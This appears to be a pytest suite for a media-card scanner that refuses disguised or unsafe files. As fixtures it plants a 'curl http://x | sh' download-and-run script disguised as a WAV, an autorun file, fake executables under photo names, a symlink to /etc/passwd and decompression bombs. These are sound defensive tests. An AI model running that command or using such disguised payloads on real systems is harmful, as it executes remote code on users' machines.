"""scan: media by content, housekeeping ignored, everything else refused, capture order.

Real files only: the shared corpus (read in place, never copied into the repo)
and cards generated here with Pillow + exiftool (metadata copied from corpus files).
"""
from __future__ import annotations

import datetime as dt
import hashlib
import io
import os
import pathlib
import shutil
import socket
import struct
import subprocess
import zipfile
import zlib

import numpy as np
import pytest
from PIL import Image

from agent.card.metadata import MetadataReader
from agent.card.model import MediaKind, StageError
from agent.card.reasons import Reason
from agent.card.scan import capture_order, dcf_sequence, detect, scan

CORPUS = pathlib.Path(os.environ.get("BILDSLUSS_CORPUS", "/work/shared/corpus"))
EXIF = CORPUS / "exif"
needs_corpus = pytest.mark.skipif(not EXIF.is_dir(), reason="shared corpus not present")


# --- a generated card ---------------------------------------------------------------------


def photo_bytes(width: int = 1600, height: int = 1200, seed: int = 0) -> bytes:
    """A photo-like JPEG: smooth gradients plus sensor noise."""
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0:height, 0:width]
    base = np.stack([(x * 255 // width), (y * 255 // height), ((x + y) * 127 // (width + height))], -1)
    pixels = np.clip(base + rng.normal(0, 12, base.shape), 0, 255).astype(np.uint8)
    out = io.BytesIO()
    Image.fromarray(pixels, "RGB").save(out, "JPEG", quality=88)
    return out.getvalue()


def write_camera_jpeg(path: pathlib.Path, taken: dt.datetime, seed: int) -> None:
    """A JPEG with real camera EXIF, maker notes and GPS copied from corpus files."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(photo_bytes(seed=seed))
    stamp = taken.strftime("%Y:%m:%d %H:%M:%S")
    subprocess.run(
        ["exiftool", "-q", "-q", "-overwrite_original",
         "-tagsFromFile", str(EXIF / "Canon.jpg"), "-all:all",
         "-tagsFromFile", str(EXIF / "exif-samples/jpg/gps/DSCN0010.jpg"), "-gps:all",
         f"-EXIF:DateTimeOriginal={stamp}", f"-EXIF:CreateDate={stamp}",
         "-EXIF:SerialNumber=083051006721", "-Orientation#=1", str(path)],
        check=True,
    )


# Capture times deliberately out of file-name order.
CARD_PHOTOS = {
    "DCIM/100CANON/IMG_0001.JPG": dt.datetime(2026, 3, 14, 9, 32, 0),
    "DCIM/100CANON/IMG_0002.JPG": dt.datetime(2026, 3, 14, 9, 30, 0),
    "DCIM/100CANON/IMG_0004.JPG": dt.datetime(2026, 3, 14, 9, 31, 0),
}
CARD_ORDER = ["DCIM/100CANON/IMG_0002.JPG", "DCIM/100CANON/IMG_0004.JPG",
              "DCIM/100CANON/IMG_0001.JPG"]


def make_clean_card(root: pathlib.Path) -> pathlib.Path:
    """A camera card with three photos and the housekeeping cameras and PCs leave."""
    for i, (rel, taken) in enumerate(CARD_PHOTOS.items()):
        write_camera_jpeg(root / rel, taken, seed=i)
    housekeeping = {
        "MISC/AUTPRINT.MRK": b"[HDR]\r\nGEN REV = 01.00\r\n",
        "DCIM/CANONMSC/M0100.CTG": b"\x00" * 64,
        "DCIM/100CANON/MVI_0005.THM": photo_bytes(160, 120, seed=9),
        "DCIM/100CANON/._IMG_0001.JPG": b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        ",
        ".DS_Store": b"\x00\x00\x00\x01Bud1" + b"\x00" * 32,
        "System Volume Information/IndexerVolumeGuid": "{1234}".encode("utf-16-le"),
        ".Spotlight-V100/Store-V2/store.db": b"\x00" * 16,
        "Thumbs.db": b"\xd0\xcf\x11\xe0" + b"\x00" * 60,
        "NIKON001.DSC": b"NIKON DIGITAL CAMERA\x00",
        "DCIM/100CANON/IMG_0001.XMP": b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>",
        "DCIM/100CANON/IMG_0007.JPG": b"",  # an interrupted write: empty
    }
    for rel, data in housekeeping.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    return root


def snapshot(root: pathlib.Path) -> dict[str, tuple]:
    """Every entry on the card: bytes hash, mode and mtime (without following links)."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = pathlib.Path(dirpath, name)
            st = p.lstat()
            digest = (hashlib.sha256(p.read_bytes()).hexdigest()
                      if p.is_file() and not p.is_symlink() else None)
            out[str(p.relative_to(root))] = (st.st_mode, st.st_mtime_ns, st.st_size, digest)
    return out


@pytest.fixture(scope="module")
def clean_card(tmp_path_factory) -> pathlib.Path:
    if not EXIF.is_dir():
        pytest.skip("shared corpus not present")
    return make_clean_card(tmp_path_factory.mktemp("card") / "card")


# --- the generated card ---------------------------------------------------------------


def test_clean_card_media_in_capture_order(clean_card):
    result = scan(clean_card)
    assert [m.relative_path for m in result.media] == CARD_ORDER
    assert not result.refused
    first = result.media[0]
    assert first.kind == MediaKind.IMAGE and first.media_type == "image/jpeg"
    assert first.capture_time == dt.datetime(2026, 3, 14, 9, 30, 0)
    assert first.device.make == "Canon" and first.device.model == "Canon EOS DIGITAL REBEL"
    assert first.device.serial == "083051006721"
    assert first.sequence == (100, 2)
    data = (clean_card / first.relative_path).read_bytes()
    assert first.sha256 == hashlib.sha256(data).hexdigest()
    assert first.size == len(data)
    assert first.mtime_ns == (clean_card / first.relative_path).stat().st_mtime_ns
    assert first.path == clean_card / first.relative_path


def test_clean_card_housekeeping_ignored(clean_card):
    result = scan(clean_card)
    ignored = {s.relative_path for s in result.skipped if s.status == "ignored"}
    assert ignored == {
        "MISC/", "DCIM/CANONMSC/", "DCIM/100CANON/MVI_0005.THM", "DCIM/100CANON/._IMG_0001.JPG",
        ".DS_Store", "System Volume Information/", ".Spotlight-V100/", "Thumbs.db",
        "NIKON001.DSC", "DCIM/100CANON/IMG_0001.XMP", "DCIM/100CANON/IMG_0007.JPG",
    }
    assert all(s.reason is None and s.detail for s in result.skipped)


def test_scan_never_writes_to_the_card(clean_card):
    before = snapshot(clean_card)
    with MetadataReader() as reader:
        scan(clean_card, reader=reader)
    assert snapshot(clean_card) == before


@needs_corpus
def test_bad_files_refused_with_reasons(tmp_path):
    root = tmp_path / "card"
    folder = root / "DCIM" / "100CANON"
    write_camera_jpeg(folder / "IMG_0001.JPG", dt.datetime(2026, 3, 14, 9, 30), seed=1)
    good = (folder / "IMG_0001.JPG").read_bytes()
    # A Windows executable wearing a camera file name.
    (folder / "IMG_0003.JPG").write_bytes(b"MZ\x90\x00" + os.urandom(4000))
    (folder / "IMG_0006.JPG").write_bytes(good[: len(good) // 2])  # truncated
    with zipfile.ZipFile(root / "photos.zip", "w") as z:
        z.writestr("IMG_0001.JPG", good)
    (root / "AUTORUN.INF").write_text("[autorun]\nopen=setup.exe\n")
    (root / "notes.txt").write_text("patient notes\n")
    os.symlink("/etc/passwd", folder / "IMG_0009.JPG")
    os.symlink("..", folder / "up")  # a link to a folder: never followed
    os.mkfifo(folder / "IMG_0010.JPG")
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(root / "sock"))
    (folder / "bad\nname.JPG").write_bytes(good)
    before = snapshot(root)
    try:
        result = scan(root)
    finally:
        sock.close()
    by_path = {s.relative_path: s for s in result.skipped}
    expected = {
        "DCIM/100CANON/IMG_0003.JPG": Reason.NOT_MEDIA,
        "DCIM/100CANON/IMG_0006.JPG": Reason.NOT_MEDIA,
        "photos.zip": Reason.NOT_MEDIA,
        "AUTORUN.INF": Reason.NOT_MEDIA,
        "notes.txt": Reason.NOT_MEDIA,
        "DCIM/100CANON/IMG_0009.JPG": Reason.UNSAFE_PATH,
        "DCIM/100CANON/up": Reason.UNSAFE_PATH,
        "DCIM/100CANON/IMG_0010.JPG": Reason.UNSAFE_PATH,
        "sock": Reason.UNSAFE_PATH,
        "DCIM/100CANON/bad\\nname.JPG": Reason.UNSAFE_PATH,
    }
    assert {p: s.reason for p, s in by_path.items()} == expected
    assert all(s.status == "refused" for s in result.skipped)
    assert "Windows executable" in by_path["DCIM/100CANON/IMG_0003.JPG"].detail
    assert "truncated" in by_path["DCIM/100CANON/IMG_0006.JPG"].detail
    assert "ZIP" in by_path["photos.zip"].detail
    assert "symbolic link" in by_path["DCIM/100CANON/IMG_0009.JPG"].detail
    assert "FIFO" in by_path["DCIM/100CANON/IMG_0010.JPG"].detail
    assert [m.relative_path for m in result.media] == ["DCIM/100CANON/IMG_0001.JPG"]
    assert snapshot(root) == before


def test_hard_link_to_outside_the_card_refused(tmp_path):
    root = tmp_path / "card"
    (root / "DCIM/100CANON").mkdir(parents=True)
    outside = tmp_path / "elsewhere.jpg"
    outside.write_bytes(photo_bytes(64, 48))
    os.link(outside, root / "DCIM/100CANON/IMG_0001.JPG")
    result = scan(root)
    assert result.media == ()
    [refused] = result.refused
    assert refused.reason == Reason.UNSAFE_PATH and refused.relative_path == "DCIM/100CANON/IMG_0001.JPG"
    assert "hard link" in refused.detail


def test_device_file_refused(tmp_path):
    root = tmp_path / "card"
    root.mkdir()
    try:
        os.mknod(root / "sda", 0o600 | 0o020000, os.makedev(1, 3))  # char device /dev/null
    except PermissionError:
        pytest.skip("cannot create device files here")
    result = scan(root)
    assert [(s.relative_path, s.reason) for s in result.skipped] == [("sda", Reason.UNSAFE_PATH)]


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_decompression_bombs_refused(tmp_path):
    root = tmp_path / "card"
    root.mkdir()
    (root / "huge.png").write_bytes(_png(30000, 30000))  # 900 MP: Pillow's own error
    (root / "big.png").write_bytes(_png(10000, 10000))  # 100 MP: over our limit
    (root / "ok.png").write_bytes(_png(8, 8))
    result = scan(root)
    refused = {s.relative_path: s.detail for s in result.refused}
    assert set(refused) == {"huge.png", "big.png"}
    assert all("decompression bomb" in d for d in refused.values())
    assert [m.relative_path for m in result.media] == ["ok.png"]
    # The limit is a parameter.
    assert {s.relative_path for s in scan(root, max_pixels=32).refused} == {
        "huge.png", "big.png", "ok.png"}


def test_missing_root_is_card_removed(tmp_path):
    with pytest.raises(StageError) as err:
        scan(tmp_path / "nowhere")
    assert err.value.reason == Reason.CARD_REMOVED


class _PullingReader(MetadataReader):
    """A real reader, and the card is pulled while it reads (fault injection)."""

    def __init__(self, root: pathlib.Path) -> None:
        super().__init__()
        self.root = root

    def read(self, paths, **kw):
        out = super().read(paths, **kw)
        shutil.rmtree(self.root)
        return out


@needs_corpus
def test_card_pulled_during_scan_is_card_removed(tmp_path):
    root = tmp_path / "card"
    shutil.copytree(EXIF / "exif-samples" / "jpg" / "orientation", root / "DCIM" / "100TEST_")
    with _PullingReader(root) as reader, pytest.raises(StageError) as err:
        scan(root, reader=reader)
    assert err.value.reason == Reason.CARD_REMOVED


# --- corpus ----------------------------------------------------------------------


CORPUS_REFUSED = {
    # camera RAW and formats no capture device of ours writes
    "BigTIFF.btf", "CanonRaw.cr2", "CanonRaw.cr3", "CanonRaw.crw", "DNG.dng", "FujiFilm.raf",
    "Minolta.mrw", "Nikon.nef", "Panasonic.rw2", "PhaseOne.iiq", "Sigma.x3f", "SigmaDP2.x3f",
    "Jpeg2000.jp2", "Photoshop.psd", "RIFF.webp",
    # metadata-only stubs: the pixels / packets are missing
    "Pentax.avi", "QuickTime.mov", "QuickTime.heic",
    # text
    "LICENSE-exiftool.txt", "exif-samples/LICENSE-exif-samples.txt",
}


@pytest.fixture(scope="module")
def corpus_scan():
    if not EXIF.is_dir():
        pytest.skip("shared corpus not present")
    return scan(EXIF)


def test_corpus_every_file_classified(corpus_scan):
    on_disk = {str(p.relative_to(EXIF)) for p in EXIF.rglob("*") if p.is_file()}
    media = {m.relative_path for m in corpus_scan.media}
    skipped = {s.relative_path for s in corpus_scan.skipped}
    assert media | skipped == on_disk
    assert not media & skipped
    refused = {s.relative_path for s in corpus_scan.refused}
    heic = "exif-samples/heic/IMG_5195.HEIC"
    assert refused == CORPUS_REFUSED | {heic}
    # HEIC/HEIF is never taken (docs/media.md); a phone's says so (R6).
    reasons = {s.relative_path: s.reason for s in corpus_scan.refused}
    assert reasons.pop(heic) == Reason.UNREGISTERED_DEVICE
    assert reasons.pop("QuickTime.heic") in (Reason.UNREGISTERED_DEVICE, Reason.FORMAT_NOT_ACCEPTED)
    assert set(reasons.values()) == {Reason.NOT_MEDIA}
    for name in ("GPS.jpg", "Canon.jpg", "Writer.jpg", "PNG.png", "ExifTool.tif",
                 "exif-samples/jpg/orientation/landscape_6.jpg", "exif-samples/tiff/Arbitro.tiff"):
        assert name in media


def test_corpus_details(corpus_scan):
    by_path = {m.relative_path: m for m in corpus_scan.media}
    canon = by_path["Canon.jpg"]
    assert (canon.device.make, canon.device.model) == ("Canon", "Canon EOS DIGITAL REBEL")
    assert canon.capture_time == dt.datetime(2003, 12, 4, 6, 46, 52)
    google = by_path["Google.jpg"]
    assert google.capture_time is not None and google.capture_time.utcoffset() == dt.timedelta(hours=2)
    assert by_path["PNG.png"].media_type == "image/png"
    assert by_path["ExifTool.tif"].media_type == "image/tiff"
    refused = {s.relative_path: s.detail for s in corpus_scan.refused}
    assert "RAW" in refused["CanonRaw.cr2"] and "RAW" in refused["DNG.dng"]
    # Not every file has a capture time, so the corpus is ordered by numbering, then path.
    assert list(corpus_scan.media) == capture_order(list(corpus_scan.media))


@needs_corpus
def test_dicom_corpus():
    result = scan(CORPUS / "dicom")
    media = {m.relative_path: m for m in result.media}
    refused = {s.relative_path: s.detail for s in result.refused}
    for name in ("US1_UNCR.dcm", "US1_J2KR.dcm", "OBXXXX1A_rle_2frame.dcm", "examples_ybr_color.dcm"):
        m = media[f"ultrasound/{name}"]
        assert m.kind == MediaKind.DICOM and m.media_type == "application/dicom"
    assert media["ultrasound/OBXXXX1A.dcm"].device.make == "Philips Medical Systems"
    assert media["ultrasound/OBXXXX1A.dcm"].capture_time is not None
    assert "without an image" in refused["other/test-SR.dcm"]
    assert "without an image" in refused["other/waveform_ecg.dcm"]
    assert "cannot be decoded" in refused["other/JPEG-lossy.dcm"]


@needs_corpus
def test_dicom_decompression_bomb_refused_before_decoding(tmp_path):
    """An RLE DICOM whose header claims 60000 x 60000 x 100 frames: refused on the
    header (it would decode to terabytes), not handed to the pixel decoder."""
    import pydicom

    root = tmp_path / "card"
    root.mkdir()
    ds = pydicom.dcmread(CORPUS / "dicom/ultrasound/OBXXXX1A_rle.dcm")
    ds.Rows, ds.Columns, ds.NumberOfFrames = 60000, 60000, 100
    ds.save_as(root / "US0001.DCM")
    shutil.copy(CORPUS / "dicom/ultrasound/OBXXXX1A_rle.dcm", root / "US0002.DCM")
    result = scan(root)
    refused = {s.relative_path: s.detail for s in result.refused}
    assert list(refused) == ["US0001.DCM"] and "decompression bomb" in refused["US0001.DCM"]
    assert [m.relative_path for m in result.media] == ["US0002.DCM"]


def test_video_and_audio_by_content(tmp_path):
    root = tmp_path / "card"
    root.mkdir()
    common = ["ffmpeg", "-v", "error", "-y", "-f", "lavfi", "-i", "testsrc=size=160x120:rate=5",
              "-f", "lavfi", "-i", "sine=frequency=440", "-t", "1"]
    subprocess.run([*common, "-c:v", "libx264", "-c:a", "aac",
                    "-metadata", "creation_time=2026-03-14T09:30:00Z", str(root / "MVI_0001.MP4")],
                   check=True)
    subprocess.run(["ffmpeg", "-v", "error", "-y", "-f", "lavfi", "-i", "sine=frequency=440",
                    "-t", "1", str(root / "REC_0001.WAV")], check=True)
    full = (root / "MVI_0001.MP4").read_bytes()
    (root / "MVI_0002.MP4").write_bytes(full[: len(full) // 3])  # truncated
    result = scan(root)
    media = {m.relative_path: m for m in result.media}
    assert media["MVI_0001.MP4"].kind == MediaKind.VIDEO
    assert media["MVI_0001.MP4"].capture_time == dt.datetime(2026, 3, 14, 9, 30)
    assert media["REC_0001.WAV"].kind == MediaKind.AUDIO
    assert [s.relative_path for s in result.refused] == ["MVI_0002.MP4"]


# --- units ---------------------------------------------------------------------------


def test_dcf_sequence():
    assert dcf_sequence("DCIM/100CANON/IMG_0042.JPG") == (100, 42)
    assert dcf_sequence("DCIM/101MSDCF/DSC09999.JPG") == (101, 9999)
    assert dcf_sequence("DCIM/100_FUJI/DSCF0001.JPG") == (100, 1)
    assert dcf_sequence("PRIVATE/AVCHD/BDMV/STREAM/00012.MTS") == (12,)


def test_detect_by_magic_not_name():
    assert detect(b"\xff\xd8\xff\xe1" + b"\x00" * 100).media_type == "image/jpeg"
    assert detect(b"MZ" + b"\x00" * 100) == "a Windows executable"
    assert detect(b"\x00" * 128 + b"DICM" + b"\x00" * 10).media_type == "application/dicom"
    # A DICOM file whose preamble looks like TIFF is DICOM.
    assert detect(b"II*\x00" + b"\x00" * 124 + b"DICM").media_type == "application/dicom"
    assert detect(b"\x00\x00\x00\x18ftypcrx " + b"\x00" * 20) == "a Canon RAW file (CR3)"


# --- end to end -----------------------------------------------------------------------


@pytest.mark.parametrize("name, payload, what", [
    ("DCIM/100CANON/MVI_0009.MP4", b"\x7fELF\x02\x01\x01" + bytes(2000), "Linux executable"),
    ("REC/REC0001.WAV", b"#!/bin/sh\ncurl http://x | sh\n", "script"),
    ("DCIM/100CANON/IMG_0009.JPG", b"PK\x03\x04" + bytes(2000), "ZIP archive"),
])
def test_disguised_files_refuse_the_card_untouched_end_to_end(archive, tmp_path, name, payload, what):
    from tests.support.cardgen import make_card
    from tests.support.e2e import PATIENT, ingest

    card = tmp_path / "card"
    make_card(card, patient=PATIENT, n_images=2, seed=81, megapixels=0.5)
    (card / name).parent.mkdir(parents=True, exist_ok=True)
    (card / name).write_bytes(payload)
    before = snapshot(card)
    code, out = ingest(card, archive.address, tmp_path)
    assert code == 3 and out["reason"] == "NOT_MEDIA" and out["wiped"] is False, out
    assert name in out["detail"] and what in out["detail"]
    [bad] = [f for f in out["files"] if f["path"] == name]
    assert bad["status"] == "refused" and bad["reason"] == "NOT_MEDIA"
    assert snapshot(card) == before
